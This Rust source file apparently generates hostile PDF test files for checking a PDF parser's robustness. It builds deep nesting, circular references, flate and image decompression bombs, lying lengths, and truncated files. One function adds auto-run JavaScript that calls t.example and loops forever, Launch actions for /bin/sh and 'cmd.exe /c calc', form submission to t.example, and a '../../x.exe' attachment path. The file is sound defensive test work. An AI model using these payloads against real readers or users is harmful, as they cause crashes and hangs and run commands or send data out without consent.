//! PDF documents: deep, endless, blown up, lying, and with things to run.

use super::HostileFile;
use super::bytes::{join, noise, zlib, zlib_of};
use super::pdf_files::{one_page, pdf, pdf_with, saying, stream};

pub(super) fn files() -> Vec<HostileFile> {
    let all = [deep(), endless(), blown_up(), active(), lying()].concat();
    all.into_iter().map(|(name, bytes)| HostileFile::new("pdf", name, bytes)).collect()
}

type Document = (&'static str, Vec<u8>);

fn plain(words: &str) -> Vec<u8> {
    one_page("", "", saying(words), &[])
}

fn deep() -> Vec<Document> {
    let content = |bytes: Vec<u8>| one_page("", "", bytes, &[]);
    vec![
        ("deep-arrays.pdf", content([b"[".repeat(500_000), b"]".repeat(500_000)].concat())),
        ("deep-dictionaries.pdf", content(b"<</A ".repeat(200_000))),
        ("deep-operators.pdf", content(stream("", &b"[".repeat(500_000)))),
        ("deep-states.pdf", content(stream("", &b"q ".repeat(500_000)))),
        ("deep-strings.pdf", content(stream("", &[&b"BT "[..], &b"(".repeat(500_000)].concat()))),
        ("deep-marks.pdf", content(stream("", &b"/P BMC ".repeat(200_000)))),
    ]
}

fn endless() -> Vec<Document> {
    let form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R/X 5 0 R>>>>";
    let itself = one_page("", "", stream(form, b"/F Do /F Do"), &[]);
    let (first, second) = (stream(form, b"/X Do /X Do"), stream(form, b"/F Do /F Do"));
    let each_other = one_page("", "", first, &[&second]);
    let pattern = stream(
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001/Resources<</Pattern<</P 5 0 R>>>>",
        b"/Pattern cs /P scn 0 0 1 1 re f",
    );
    let tiles = one_page("", "", stream("", b"/Pattern cs /P scn 0 0 300 300 re f"), &[&pattern]);
    let type3 = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</T 5 0 R>>>>>>";
    let glyph = stream("", b"BT /T 1 Tf (aaaa) Tj ET");
    let letters = one_page("", "", stream("", b"BT /T 12 Tf (aaaa) Tj ET"), &[type3, &glyph]);
    let kids =
        |kids: &str| pdf(&[b"<</Type/Catalog/Pages 2 0 R>>".to_vec(), format!("<</Type/Pages{kids}>>").into_bytes()]);
    let words = plain("Dear member, this table leads back to itself");
    let at = String::from_utf8_lossy(&words[words.len() - 20..]).lines().nth(1).unwrap_or("9").to_owned();
    let again = String::from_utf8_lossy(&words).replace("/Root 1 0 R", &format!("/Root 1 0 R/Prev {at}"));
    let xref_stream = stream("/Type/XRef/W[1 2 1]/Size 5/Root 1 0 R/Prev 9", &[1, 0, 9, 0]);
    let mut with_stream = b"%PDF-1.7\n5 0 obj\n".to_vec();
    with_stream.extend(join(&[&xref_stream, b"\nendobj\nstartxref\n9\n%%EOF"]));
    let outline =
        "/Outlines 5 0 R/Names<</Dests 5 0 R>>/StructTreeRoot 5 0 R/OCProperties 5 0 R/AcroForm<</Fields[5 0 R]>>";
    let circle = b"<</First 5 0 R/Last 5 0 R/Next 5 0 R/Prev 5 0 R/Parent 5 0 R/Kids[5 0 R 5 0 R]/K 5 0 R/Title(x)/Count 99999>>";
    vec![
        ("form-in-itself.pdf", itself),
        ("forms-in-each-other.pdf", each_other),
        ("pattern-in-itself.pdf", tiles),
        ("letters-in-themselves.pdf", letters),
        ("kids-are-their-parent.pdf", kids("/Kids[2 0 R 2 0 R]/Count 99999999")),
        ("kids-never.pdf", kids("/Kids[9 0 R]/Count -1")),
        ("xref-in-a-circle.pdf", again.into_bytes()),
        ("xref-stream-in-a-circle.pdf", with_stream),
        ("outline-in-a-circle.pdf", one_page(outline, "", saying("A circle"), &[circle])),
        ("contents-are-the-page.pdf", one_page("", "/Contents 3 0 R/Annots 3 0 R", saying("x"), &[])),
        ("length-is-itself.pdf", one_page("", "", b"<</Length 4 0 R>>\nstream\nq\nendstream".to_vec(), &[])),
        (
            "object-stream-in-itself.pdf",
            one_page("", "", stream("/Type/ObjStm/N 99999/First 9/Extends 4 0 R", b"4 0 4 1"), &[]),
        ),
    ]
}

fn blown_up() -> Vec<Document> {
    let packed = zlib_of(b' ', 5 << 28);
    let twice = zlib(&zlib_of(0, 1 << 30));
    let flate = |filter: &str, bytes: &[u8]| one_page("", "", stream(filter, bytes), &[]);
    let picture = |filter: &str, bytes: &[u8]| {
        let image = stream(
            &format!(
                "/Type/XObject/Subtype/Image/Width 65000/Height 65000/BitsPerComponent 8/ColorSpace/DeviceRGB{filter}"
            ),
            bytes,
        );
        one_page("", "", stream("", b"300 0 0 300 0 0 cm /X Do"), &[&image])
    };
    let predictor = "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>";
    let shading = b"<</Type/Pattern/PatternType 2/Shading<</ShadingType 1/ColorSpace/DeviceRGB/Function<</FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]>>>>>>";
    let function = one_page("", "", stream("", b"/Pattern cs /P scn 0 0 300 300 re f"), &[shading]);
    let kids = "4 0 R ".repeat(3_000);
    let pages = pdf(&[
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        format!("<</Type/Pages/Kids[{kids}]/Count 3000/MediaBox[0 0 200 200]>>").into_bytes(),
        b"null".to_vec(),
        b"<</Type/Page/Parent 2 0 R/Resources<<>>>>".to_vec(),
    ]);
    let lines = b"0 0 m 300 300 l S 10 0 0 10 0 0 cm .1 0 0 .1 0 0 cm [.001 .001] 0 d 0 0 m 300 300 l S ".repeat(3_000);
    vec![
        ("flate-bomb.pdf", flate("/Filter/FlateDecode", &packed)),
        ("flate-bomb-twice.pdf", flate("/Filter[/FlateDecode/FlateDecode]", &twice)),
        (
            "run-length-bomb.pdf",
            flate("/Filter[/RunLengthDecode/RunLengthDecode/ASCIIHexDecode]", &b"81 20 ".repeat(200_000)),
        ),
        ("lzw-noise.pdf", flate("/Filter/LZWDecode", &noise(3, 50_000))),
        ("predictor-of-two-billion.pdf", flate(predictor, &zlib(b"words"))),
        ("picture-65k.pdf", picture("/Filter/FlateDecode", &zlib_of(0, 1 << 20))),
        ("picture-jpeg-noise.pdf", picture("/Filter/DCTDecode", &noise(4, 5_000))),
        ("picture-jpeg2000-noise.pdf", picture("/Filter/JPXDecode", &noise(5, 5_000))),
        ("picture-jbig2-noise.pdf", picture("/Filter/JBIG2Decode", &noise(6, 5_000))),
        (
            "picture-fax-columns.pdf",
            picture("/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 65000/Rows 65000>>", &noise(7, 5_000)),
        ),
        ("function-without-words.pdf", function),
        ("three-thousand-pages-of-one.pdf", pages),
        ("dashes.pdf", flate("", &lines)),
    ]
}

/// Things that a reader might run. Addresses are of a domain set aside for such use (RFC 2606).
fn active() -> Vec<Document> {
    let page = |catalogue: &str, words: &str| one_page(catalogue, "", saying(words), &[]);
    let link = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/Launch/F(/bin/sh)>>>><</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(../../x.exe)>>>>]";
    let locked = |more: &str| {
        let objects = [
            b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>".to_vec(),
        ];
        pdf_with(&objects, &format!("/ID[<00112233445566778899aabbccddeeff><00>]/Encrypt<<{more}>>"))
    };
    let codes = "/O<0000000000000000000000000000000000000000000000000000000000000000>/U<0000000000000000000000000000000000000000000000000000000000000000>/P -4";
    vec![
        (
            "javascript.pdf",
            page(
                "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://t.example/'\\); while\\(1\\){})>>",
                "Runs at once",
            ),
        ),
        (
            "javascript-names.pdf",
            page(
                "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>/EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)>>]>>>>",
                "Named",
            ),
        ),
        ("launch.pdf", page("/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>", "Launches")),
        (
            "submit.pdf",
            page(
                "/AA<</WC<</S/SubmitForm/F(http://t.example/)>>>>/OpenAction<</S/GoToR/F(\\\\\\\\t.example\\\\share)/D[0/Fit]>>",
                "Submits",
            ),
        ),
        ("xfa.pdf", page("/AcroForm<</XFA(<xdp:xdp/>)/NeedAppearances true>>/NeedsRendering true", "Please wait")),
        ("marks.pdf", one_page("", link, saying("Links"), &[])),
        ("encrypted.pdf", locked(&format!("/Filter/Standard/V 2/R 3/Length 128{codes}"))),
        ("encrypted-by-nobody.pdf", locked("/Filter/Nobody/V 99/R 99")),
        ("encrypted-rounds.pdf", locked(&format!("/Filter/Standard/V 5/R 6/Length 4294967295{codes}"))),
    ]
}

fn lying() -> Vec<Document> {
    let words = plain("Dear member, some numbers here are lies");
    let text = String::from_utf8_lossy(&words).into_owned();
    let with = |from: &str, to: &str| text.replace(from, to).into_bytes();
    vec![
        ("length-4-gb.pdf", with("/Length ", "/Length 4294967295 %")),
        ("length-negative.pdf", with("/Length ", "/Length -1 %")),
        ("size-lies.pdf", with("/Size ", "/Size 2147483647 %")),
        ("box-of-no-size.pdf", with("[0 0 300 300]", "[0 0 0 0]")),
        ("box-wide.pdf", with("[0 0 300 300]", "[-9e30 0 9e30 1e-30]")),
        ("box-of-a-kilometre.pdf", with("[0 0 300 300]", "[0 0 2834645 2834645]/UserUnit 1000000/Rotate 37")),
        ("startxref-far.pdf", with("startxref\n", "startxref\n99999999999999999999")),
        ("cut.pdf", words[..words.len() / 2].to_vec()),
        ("head-only.pdf", b"%PDF-1.7\n".to_vec()),
        ("head-late.pdf", [&b"x".repeat(1000), &words[..]].concat()),
        ("noise-inside.pdf", [&words[..200], &noise(9, 4_000), &words[200..]].concat()),
        ("version-of-no-year.pdf", with("%PDF-1.7", "%PDF-999.999")),
    ]
}
